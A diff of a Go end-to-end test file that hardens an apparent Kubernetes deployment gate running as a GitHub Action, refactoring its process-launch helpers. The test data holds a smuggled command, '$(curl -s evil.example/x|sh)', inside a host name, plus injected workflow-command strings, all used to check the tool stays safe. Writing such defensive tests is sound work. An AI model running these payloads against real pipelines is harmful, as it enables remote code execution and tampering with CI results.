@@ -3,16 +3,12 @@
 package e2e
 
 import (
-	"bytes"
 	"context"
 	"encoding/json"
-	"errors"
 	"fmt"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
-	"sync"
 	"syscall"
 	"testing"
 	"time"
@@ -38,7 +34,7 @@ func TestHardeningShellPayloadInHostName(t *testing.T) {
 	t.Parallel()
 	c, ns := framework.Client(t), framework.Namespace(t)
 	payload := `could not translate host name "pg.example.com$(curl -s evil.example/x|sh)" to address: Name or service not known (port 5432)`
-	apply(t, c, framework.Deployment(ns, "api", "--print-stderr", payload, "--exit-code", "1"))
+	framework.Apply(t, c, framework.Deployment(ns, "api", "--print-stderr", payload, "--exit-code", "1"))
 	run := runGate(t, "-n", ns, "--workload", "deployment/api", "--crash-tolerance", "0", "--timeout", "3m", "-o", "json")
 	if run.Exit != 1 {
 		t.Fatalf("exit %d, want 1 (a crash loop)", run.Exit)
@@ -115,7 +111,7 @@ func TestHardeningWorkflowCommandsInJSONOutput(t *testing.T) {
 	c, ns := framework.Client(t), framework.Namespace(t)
 	d := framework.Deployment(ns, "api", "--print", "::error::e2e-pwned-1", "--print", "log ##[warning]e2e-pwned-2",
 		"--print-stderr", "::set-output name=verdict::healthy e2e-pwned-3", "--exit-code", "1")
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, inputs: map[string]string{"INPUT_OUTPUT": "json", "INPUT_COMMENT": "never"}})
 	if run.Exit != 1 {
@@ -157,7 +153,7 @@ func TestHardeningShortSecretWithNewline(t *testing.T) {
 	// $(DB_PASS) is expanded by the kubelet: the app prints the value with no NAME= before it.
 	d := framework.Deployment(ns, "api", "--print", "connecting with password $(DB_PASS) to the database", "--exit-code", "1")
 	d.Spec.Template.Spec.Containers[0].Env = []corev1.EnvVar{framework.EnvFromSecret("DB_PASS", "db", "password")}
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	pod := framework.WaitForPod(t, c, ns, framework.Selector("api"), 2*time.Minute, "a container that has run",
 		func(p *corev1.Pod) bool {
 			cs := framework.ContainerStatus(p, "app")
@@ -185,7 +181,7 @@ func TestHardeningNoLogLines(t *testing.T) {
 	c, ns := framework.Client(t), framework.Namespace(t)
 	const distinctive = "e2e-log-line-must-not-appear-5f2a"
 	d := framework.Deployment(ns, "api", "--print", "FATAL: "+distinctive, "--exit-code", "1")
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	api := stubCommentPosted(t)
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, apiURL: api.URL(),
@@ -204,19 +200,18 @@ func TestHardeningNoLogLines(t *testing.T) {
 func TestHardeningSIGTERMMidWatch(t *testing.T) {
 	t.Parallel()
 	c, ns := framework.Client(t), framework.Namespace(t)
-	d := framework.Deployment(ns, "api", "--ready-after", "1h")
-	d.Spec.Template.Spec.Containers[0].ReadinessProbe = framework.HTTPProbe("/ready")
-	apply(t, c, d)
+	d := framework.Ready(framework.Deployment(ns, "api", "--ready-after", "1h"))
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	var signalled time.Time
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, inputs: map[string]string{"INPUT_COMMENT": "never", "INPUT_TIMEOUT": "30m"},
-		whileRunning: func(cmd *exec.Cmd, stderr *syncBuffer) {
+		whileRunning: func(p *gateProcess) {
 			// Signal once the watch has said something about the rollout.
 			framework.WaitFor(t, 2*time.Minute, "the gate's first progress line", func(context.Context) (bool, error) {
-				return strings.Contains(stderr.String(), "deployment/api"), nil
+				return strings.Contains(p.stderr.String(), "deployment/api"), nil
 			})
 			signalled = time.Now()
-			if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
+			if err := p.cmd.Process.Signal(syscall.SIGTERM); err != nil {
 				t.Errorf("SIGTERM: %v", err)
 			}
 		}})
@@ -238,7 +233,7 @@ func TestHardeningHungGitHubAPI(t *testing.T) {
 	t.Parallel()
 	c, ns := framework.Client(t), framework.Namespace(t)
 	d := framework.Deployment(ns, "api", "--print", "FATAL: boom", "--exit-code", "1")
-	apply(t, c, d)
+	framework.Apply(t, c, d)
 	ws, _ := actionWorkspace(t, d)
 	api := githubtest.Silent(t)
 	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, apiURL: api.URL + "/api/v3", inputs: map[string]string{"INPUT_COMMENT": "always"}})
@@ -259,7 +254,7 @@ type hardenedAction struct {
 	ws, ns, apiURL string
 	inputs         map[string]string
 	// whileRunning, when set, runs once the process has started (to signal it).
-	whileRunning func(cmd *exec.Cmd, stderr *syncBuffer)
+	whileRunning func(p *gateProcess)
 }
 
 type hardenedRun struct {
@@ -299,31 +294,14 @@ func runHardenedAction(t *testing.T, a hardenedAction) hardenedRun {
 	if runner.Env["INPUT_KUBECONFIG"] == "" {
 		runner.Env["INPUT_KUBECONFIG"] = actionKubeconfig(t)
 	}
-	// A guard against a hang, not a timing assertion: the longest run here is a few minutes.
-	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
-	defer cancel()
-	cmd := exec.CommandContext(ctx, framework.GateBinary(t))
-	cmd.Dir, cmd.Env = a.ws, runner.Environ()
-	var stdout bytes.Buffer
-	stderr := &syncBuffer{}
-	cmd.Stdout, cmd.Stderr = &stdout, stderr
-	run := hardenedRun{started: time.Now(), summaryPath: runner.Env["GITHUB_STEP_SUMMARY"]}
-	if err := cmd.Start(); err != nil {
-		t.Fatalf("start the gate: %v", err)
-	}
+	p := startGate(t, a.ws, runner.Environ())
 	if a.whileRunning != nil {
-		a.whileRunning(cmd, stderr)
+		a.whileRunning(p)
 	}
-	err := cmd.Wait()
-	run.ended = time.Now()
-	run.Stdout, run.Stderr = stdout.String(), stderr.String()
-	var exitErr *exec.ExitError
-	switch {
-	case errors.As(err, &exitErr):
-		run.Exit = exitErr.ExitCode()
-	case err != nil:
-		t.Fatalf("run the gate: %v", err)
-	}
+	run := hardenedRun{summaryPath: runner.Env["GITHUB_STEP_SUMMARY"]}
+	run.Exit = p.wait(t)
+	run.started, run.ended = p.started, p.ended
+	run.Stdout, run.Stderr = p.stdout.String(), p.stderr.String()
 	t.Logf("gate as an action: exit %d in %s\nstdout:\n%s\nstderr:\n%s", run.Exit, run.ended.Sub(run.started).Round(time.Millisecond), run.Stdout, run.Stderr)
 	if strings.Contains(run.Stderr, "goroutine ") || strings.Contains(run.Stderr, "panic:") {
 		t.Errorf("the gate printed a stack trace:\n%s", run.Stderr)
@@ -351,22 +329,4 @@ func stubCommentPosted(t *testing.T) *githubtest.API {
 	api := commentAPI(t, `[]`)
 	api.On("POST", fmt.Sprintf("/repos/%s/issues/%d/comments", ghRepo, prNumber)).Reply(201, `{"id":1}`)
 	return api
-}
-
-// syncBuffer is a bytes.Buffer safe to read while the process writes to it.
-type syncBuffer struct {
-	mu sync.Mutex
-	b  bytes.Buffer
-}
-
-func (s *syncBuffer) Write(p []byte) (int, error) {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return s.b.Write(p)
-}
-
-func (s *syncBuffer) String() string {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return s.b.String()
 }
